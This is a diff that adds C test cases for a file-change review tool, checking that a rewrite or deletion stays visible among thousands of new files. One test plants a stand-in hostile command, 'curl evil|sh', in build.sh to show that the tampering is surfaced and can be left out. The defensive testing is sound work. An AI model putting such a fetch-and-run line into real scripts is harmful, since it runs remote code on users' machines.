@@ -544,6 +544,63 @@ test_many (Fixture *fixture, gconstpointer data)
   run (fixture, "test ! -e build; test $(ls old | wc -l) = 300; test \"$(cat src/700)\" = 700");
 }
 
+/* A crowd of new files hides neither a deletion nor a rewrite, which are left out by themselves. */
+static void
+test_crowd (Fixture *fixture, gconstpointer data)
+{
+  const BeckonFileChange *group;
+  g_autofree char *sentence = NULL;
+  g_autofree char *counts = NULL;
+
+  run (fixture, "echo years >thesis; echo make >build.sh");
+  command (fixture, "for i in $(seq 1 3000); do echo x >$i; done; rm thesis; echo 'curl evil|sh' >build.sh");
+  survey (fixture);
+  assert_list (fixture, "*./3000 open\n*build.sh open\n-thesis open\n");
+  group = beckon_change_set_get (fixture->landing->changes, 0);
+  counts = beckon_file_change_dup_counts (group);
+  g_assert_cmpstr (counts, ==, "3000 new");
+  g_assert_cmpint (beckon_file_change_get_common_kind (group), ==, BECKON_FILE_CREATED);
+  g_assert_nonnull (beckon_change_set_get (fixture->landing->changes, 1)->diff);
+  g_assert_nonnull (beckon_change_set_get (fixture->landing->changes, 2)->diff);
+  sentence = beckon_change_set_dup_sentence (fixture->landing->changes);
+  g_assert_cmpstr (sentence, ==, "Changed 1 file, deleted 1 file, made 3000 files in ./");
+  {
+    g_autoptr (BeckonChangeChoice) choice = beckon_change_choice_new ();
+
+    beckon_change_choice_set_left_out (choice, 1, TRUE);
+    beckon_change_choice_set_left_out (choice, 2, TRUE);
+    beckon_change_choice_apply (choice, fixture->landing->changes);
+  }
+  land (fixture);
+  run (fixture, "test \"$(cat thesis build.sh)\" = \"$(printf 'years\\nmake')\"; test $(ls | wc -l) = 3002");
+  undo (fixture);
+  run (fixture, "test $(ls | wc -l) = 2");
+}
+
+/* Each kind is counted, where deletions themselves are too many to be listed. */
+static void
+test_crowd_of_all (Fixture *fixture, gconstpointer data)
+{
+  g_autofree char *counts = NULL;
+  g_autofree char *sentence = NULL;
+
+  run (fixture, "mkdir src; for i in $(seq 1 1200); do echo $i >src/$i; done; echo a >a");
+  command (fixture, "cd src; rm $(seq 1 1100); for i in $(seq 1101 1200); do echo more >>$i; done; "
+                    "for i in $(seq 1 1300); do echo x >n$i; done; rm ../a");
+  survey (fixture);
+  assert_list (fixture, "-a open\n*src/2500 open\n");
+  counts = beckon_file_change_dup_counts (beckon_change_set_get (fixture->landing->changes, 1));
+  g_assert_cmpstr (counts, ==, "1300 new, 100 changed, 1100 deleted");
+  sentence = beckon_change_set_dup_sentence (fixture->landing->changes);
+  g_assert_cmpstr (sentence, ==,
+                   "Deleted 1 file, changed 100 files in src/, deleted 1100 files in src/, made 1300 files in src/");
+  keep_all (fixture);
+  land (fixture);
+  run (fixture, "test ! -e a; test $(ls src | wc -l) = 1400");
+  undo (fixture);
+  run (fixture, "test -e a; test $(ls src | wc -l) = 1200");
+}
+
 /* Only what waits is kept of a folder whose rest is left out. */
 static void
 test_least (Fixture *fixture, gconstpointer data)
@@ -762,6 +819,8 @@ add_cases (void)
   CASE ("/lander/two-commands", test_two_commands);
   CASE ("/lander/part", test_part_of_folder);
   CASE ("/lander/many", test_many);
+  CASE ("/lander/crowd", test_crowd);
+  CASE ("/lander/crowd-of-all", test_crowd_of_all);
   CASE ("/lander/least", test_least);
   CASE ("/lander/secret", test_secret);
   CASE ("/lander/undo-refused", test_undo_refused);
